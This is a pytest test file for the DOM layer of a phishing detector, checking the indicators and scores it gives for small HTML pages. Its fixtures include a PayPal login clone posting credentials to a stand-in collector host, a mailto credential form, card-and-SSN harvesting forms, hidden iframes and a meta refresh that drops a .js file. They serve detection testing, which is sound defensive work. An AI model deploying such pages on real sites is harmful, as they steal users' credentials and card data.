"""The dom layer on small pages written for these tests: phishing, benign logins, iframes, refresh."""

from __future__ import annotations

from malwaresnipper.engine.capture import Capture
from malwaresnipper.engine.config import EngineConfig
from malwaresnipper.engine.features import Features
from malwaresnipper.engine.layers.dom import DomLayer
from malwaresnipper.engine.results import LayerResult, Severity

LAYER = DomLayer(EngineConfig())

PHISHING_LOGIN = """<!doctype html>
<html><head><title>PayPal: Log in to your account</title></head>
<body oncontextmenu="return false">
<img src="https://www.paypalobjects.com/images/logo.svg">
<h2>Your PayPal account has been limited</h2>
<p>Confirm your identity to restore access to PayPal.</p>
<form method="post" action="https://collect.badhost-panel.ru/gate.php">
  <input type="email" name="login_email" placeholder="Email">
  <input type="password" name="login_password" placeholder="Password">
  <button type="submit">Log In</button>
</form>
<a href="https://www.paypal.com/us/webapps/mpp/ua/privacy-full">Privacy</a>
<a href="https://www.paypal.com/us/webapps/mpp/ua/legalhub-full">Legal</a>
<a href="https://www.paypal.com/us/smarthelp/home">Help</a>
<a href="#">Forgot password?</a>
</body></html>
"""

#: The same kind of page as a brand serves it on its own domain.
BRAND_OWN_LOGIN = """<!doctype html>
<html><head><title>Log in to your PayPal account</title>
<link rel="stylesheet" href="https://www.paypalobjects.com/web/res/css/login.css"></head>
<body>
<h1>PayPal</h1>
<form method="post" action="/signin" name="login">
  <input type="email" name="login_email" autocomplete="username">
  <input type="password" name="login_password" autocomplete="current-password">
  <input type="hidden" name="_csrf" value="abc">
  <button type="submit">Log In</button>
</form>
<a href="https://www.paypal.com/us/smarthelp/home">Having trouble logging in?</a>
<a href="/signup">Sign Up</a>
<footer><a href="/privacy">Privacy</a> <a href="/legal">Legal</a> <a href="/contact">Contact</a></footer>
</body></html>
"""

#: An ordinary site's login page, with "sign in with" buttons for other brands.
ORDINARY_LOGIN = """<!doctype html>
<html><head><title>Sign in - Gardening Forum</title></head>
<body>
<form action="/login" method="post">
  <input name="user"><input type="password" name="pass"><input type="submit" value="Sign in">
</form>
<p>Or sign in with Google. Continue with Facebook. Log in with Apple.
Follow us on Twitter. Sign up with Google.</p>
<a href="/forum">Forum</a> <a href="/register">Register</a> <a href="https://twitter.com/garden">Twitter</a>
</body></html>
"""


def scan(url: str, html: str | None = None, **kwargs: object) -> LayerResult:
    capture = Capture.build(url, html=html, **kwargs)  # type: ignore[arg-type]
    return LAYER.analyze(capture, Features(capture))


def ids(result: LayerResult) -> set[str]:
    return {i.id for i in result.indicators}


def test_phishing_login_page_is_suspicious_and_says_why() -> None:
    result = scan("https://secure-account-verify.example-login.com/webapps/signin", PHISHING_LOGIN)
    assert result.score >= 70
    found = ids(result)
    assert "dom.brand_credential_mismatch" in found
    assert "dom.form_action_external" in found
    assert "dom.cloned_brand_page" in found
    assert "dom.right_click_disabled" in found
    brand = next(i for i in result.indicators if i.id == "dom.brand_credential_mismatch")
    assert brand.severity is Severity.HIGH
    assert brand.classification == "phishing"
    assert "PayPal" in brand.title
    assert brand.evidence[0].location == "title"
    action = next(i for i in result.indicators if i.id == "dom.form_action_external")
    assert "badhost-panel.ru" in action.evidence[0].snippet
    assert action.evidence[0].location == "form #1"
    # Sorted by severity, most severe first.
    severities = [i.severity for i in result.indicators]
    assert severities == sorted(severities, reverse=True)


def test_same_page_on_the_brands_own_domain_is_not_flagged_for_the_brand() -> None:
    result = scan("https://www.paypal.com/signin", BRAND_OWN_LOGIN)
    assert result.score < 20
    assert ids(result) == {"dom.password_form"}
    # Also a country domain of the brand.
    assert scan("https://www.paypal.co.uk/signin", BRAND_OWN_LOGIN).score < 20


def test_brand_login_copied_to_another_site_is_flagged() -> None:
    result = scan("https://paypal-login.weebly-sites.example/signin", BRAND_OWN_LOGIN)
    assert "dom.brand_credential_mismatch" in ids(result)
    assert result.score >= 40


def test_a_placeholder_address_makes_no_claim_about_the_pages_own_site() -> None:
    """``eval`` scans corpus pages at a made-up address: nothing may be judged against it."""
    saved = "<!-- saved from url=(0036)https://www.wellsfargo.com/signon/ -->\n"
    refresh = '<meta http-equiv="refresh" content="2; url=https://www.chase.com/">'
    iframe = '<iframe src="http://traffic.badhost.test/in.php" width="1" height="1"></iframe>'
    html = saved + PHISHING_LOGIN.replace("</head>", refresh + "</head>").replace("</body>", iframe + "</body>")
    real = ids(scan("https://secure-account-verify.example-login.com/signin", html))
    assert {"dom.brand_credential_mismatch", "dom.form_action_external", "dom.cloned_brand_page",
            "dom.saved_brand_page", "dom.refresh_to_brand", "dom.hidden_iframe_external"} <= real
    placeholder = scan("https://sample.invalid/row-1", html, synthetic_url=True)
    # what the page itself shows still counts; where it is (or is not) does not
    assert ids(placeholder) == {"dom.password_form", "dom.right_click_disabled", "dom.hidden_iframe"}
    http_page = ORDINARY_LOGIN.replace('action="/login"', 'action="http://forum.gardening.example/login"')
    assert ids(scan("https://sample.invalid/row-2", http_page, synthetic_url=True)) == {"dom.password_form"}


def test_bare_credential_page() -> None:
    html = '<title>Sign in</title><form action="/x"><input name=u><input type=password name=p></form><a href="#">?</a>'
    result = scan("https://portal.example/", html)
    assert ids(result) == {"dom.password_form", "dom.bare_credential_page"}
    assert result.score < 20  # still far below SUSPICIOUS on its own


def test_saved_copy_of_a_brand_page() -> None:
    html = "<!-- saved from url=(0036)https://www.wellsfargo.com/signon/ -->\n" + ORDINARY_LOGIN
    result = scan("https://forum.gardening.example/login", html)
    assert "dom.saved_brand_page" in ids(result)
    saved = next(i for i in result.indicators if i.id == "dom.saved_brand_page")
    assert "wellsfargo.com" in saved.evidence[0].snippet and saved.severity is Severity.HIGH
    # Saved from its own site: nothing to say.
    own = scan("https://www.wellsfargo.com/signon/", html)
    assert "dom.saved_brand_page" not in ids(own)


def test_ordinary_login_page_is_a_weak_signal_only() -> None:
    result = scan("https://forum.gardening.example/login", ORDINARY_LOGIN)
    assert ids(result) == {"dom.password_form"}
    assert 0 < result.score < 10


def test_password_over_http_and_insecure_post() -> None:
    http = scan("http://forum.gardening.example/login", ORDINARY_LOGIN)
    assert "dom.password_over_http" in ids(http)
    page = ORDINARY_LOGIN.replace('action="/login"', 'action="http://forum.gardening.example/login"')
    https = scan("https://forum.gardening.example/login", page)
    assert "dom.form_insecure_post" in ids(https)
    assert "dom.form_action_external" not in ids(https)


def test_mailto_and_data_form_actions() -> None:
    html = '<form action="mailto:drop@evil.test"><input type=password name=p></form>'
    result = scan("https://a.example/", html)
    mailto = next(i for i in result.indicators if i.id == "dom.form_action_mailto")
    assert mailto.severity is Severity.HIGH and mailto.classification == "phishing"
    html = '<form action="data:text/html,x"><input name=q></form>'
    data = next(i for i in scan("https://a.example/", html).indicators if i.id == "dom.form_action_data")
    assert data.severity is Severity.MEDIUM  # no credential field in that form


def test_card_form_on_a_brand_named_page() -> None:
    html = """<title>Amazon - Update your billing information</title>
    <form action="/update.php"><input name="cardnumber"><input name="cvv2"><input name="exp"></form>"""
    result = scan("http://amaz0n-billing.example/", html)
    assert {"dom.card_form", "dom.brand_credential_mismatch"} <= ids(result)
    assert result.score >= 40


def test_card_together_with_identity_secrets() -> None:
    html = """<title>Verification</title><form action="/step2.php">
    <input name="cardnumber"><input name="cvv"><input name="ssn"><input name="atm_pin"><input name="dob">
    </form><a href="/a">a</a><a href="/b">b</a><a href="/c">c</a>"""
    result = scan("https://secure-check.example/", html)
    combo = next(i for i in result.indicators if i.id == "dom.card_with_secrets")
    assert combo.severity is Severity.MEDIUM and combo.classification == "phishing"
    assert result.score >= 40
    checkout = """<title>Checkout</title><form action="/pay"><input name="cardnumber"><input name="cvv">
    <input name="email"></form><a href="/a">a</a>"""
    plain = scan("https://shop.example/checkout", checkout)
    assert ids(plain) == {"dom.card_form"} and plain.score < 20


def test_hidden_iframe_to_another_site() -> None:
    html = """<p>news</p><iframe src="http://traffic.badhost.test/in.php?id=1" width="1" height="1"
    style="visibility:hidden"></iframe>
    <iframe src="https://www.googletagmanager.com/ns.html?id=GTM-1" height="0" width="0"
    style="display:none"></iframe>
    <iframe src="https://www.youtube.com/embed/x" width="560" height="315"></iframe>"""
    result = scan("https://blog.example/post", html)
    assert ids(result) == {"dom.hidden_iframe_external"}
    indicator = result.indicators[0]
    assert indicator.evidence[0].location == "iframe #1"
    assert "badhost.test" in indicator.evidence[0].snippet
    assert 20 <= result.score < 40  # alone it is not enough for SUSPICIOUS


def test_many_hidden_iframes_report_once() -> None:
    html = "".join(f'<iframe src="https://t{i}.bad.test/" width=0 height=0></iframe>' for i in range(30))
    result = scan("https://blog.example/", html)
    assert [i.id for i in result.indicators] == ["dom.hidden_iframe_external"]
    assert len(result.indicators[0].evidence) == 5


def test_meta_refresh_away_from_the_site() -> None:
    away = '<meta http-equiv="refresh" content="0;url=https://elsewhere.test/landing">'
    result = scan("https://shop.example/", away)
    assert ids(result) == {"dom.meta_refresh_offsite"}
    assert result.indicators[0].classification == "redirect"
    same = '<meta http-equiv="refresh" content="0;url=https://www.shop.example/home">'
    assert scan("https://shop.example/", same).indicators == ()
    to_brand = '<meta http-equiv="refresh" content="2; url=https://www.chase.com/">'
    assert ids(scan("https://thanks.example/done.html", to_brand)) == {"dom.refresh_to_brand"}


def test_auto_download() -> None:
    html = '<meta http-equiv="refresh" content="1;url=http://files.test/Invoice_0412.js">'
    result = scan("https://mail-docs.example/", html)
    assert "dom.auto_download" in ids(result)
    auto = next(i for i in result.indicators if i.id == "dom.auto_download")
    assert auto.severity is Severity.HIGH and auto.classification == "dropper"


def test_ordinary_pages_score_zero() -> None:
    article = """<title>Ten tips for growing tomatoes</title><h1>Tomatoes</h1>
    <p>Apple trees and amazon lilies are fine too.</p><a href="/a">a</a><a href="https://other.test/">b</a>
    <img src="/x.png"><script>console.log(1)</script>"""
    result = scan("https://garden.example/tomatoes", article)
    assert result.score == 0 and result.indicators == ()
    assert scan("https://garden.example/", "").confidence == 0.0


def test_url_only_capture_has_no_confidence() -> None:
    result = scan("https://example.com/")
    assert result.score == 0.0 and result.confidence == 0.0 and result.indicators == ()


def test_extension_dom_facts_without_html() -> None:
    dom = {
        "forms": [{"action": "https://grab.collector.test/p", "method": "post", "has_password": True, "input_count": 2}],
        "iframes": [{"src": "https://x.bad.test/", "hidden": True, "width": 0, "height": 0}],
        "right_click_disabled": True,
        "text_excerpt": "Microsoft account. Sign in to Microsoft. Microsoft Office 365.",
    }
    result = scan(
        "https://login-microsoftonline.evil.test/", source="extension", dom=dom,
        title="Sign in to your Microsoft account",
    )
    found = ids(result)
    assert {"dom.brand_credential_mismatch", "dom.form_action_external", "dom.hidden_iframe_external",
            "dom.right_click_disabled"} <= found
    assert result.score >= 70


def test_brand_named_in_text_next_to_credential_form() -> None:
    html = """<title>Account verification</title><p>Netflix: your Netflix membership is on hold.
    Update your Netflix payment details to keep watching Netflix.</p>
    <form action="/billing.php"><input name="cc_number"><input type="password" name="p"></form>"""
    result = scan("https://member-update.example/", html)
    assert "dom.brand_text_mismatch" in ids(result)
    assert result.score >= 40


def test_never_raises_on_odd_pages() -> None:
    for html in ("<form action='http://[::1'><input type=password>", "\x00" * 10, "<iframe src='http://['>"):
        result = scan("https://site.example/", html)
        assert isinstance(result, LayerResult)


def test_brand_table() -> None:
    from malwaresnipper.engine.features.brands import brand_counts, brand_of_site, brands_in_title, site_owned_by

    assert brands_in_title("0utlook web app") == ["Microsoft"]  # look-alike digit folded
    assert brands_in_title("chase online - verification") == ["Chase"]
    # "chase" names the bank in a title, but is an ordinary word in body text.
    assert brands_in_title("chase") == ["Chase"] and brand_counts("we chase the ball") == {}
    assert site_owned_by("amazon.co.uk", "Amazon") and not site_owned_by("amazon-verify.com", "Amazon")
    assert brand_of_site("microsoftonline.com") == "Microsoft" and brand_of_site("example.org") is None
    assert brand_counts("paypal, paypal! mypaypalx") == {"PayPal": 2}  # word bounds


def test_self_hosted_webmail_is_not_a_brand() -> None:
    html = """<title>Roundcube Webmail :: Welcome to Webmail</title><form action="/?_task=login" method=post>
    <input name=_user><input type=password name=_pass></form>
    <a href="/help">Help</a><a href="/privacy">Privacy</a><a href="/about">About</a>"""
    result = scan("https://webmail.university.example/", html)
    assert ids(result) == {"dom.password_form"}
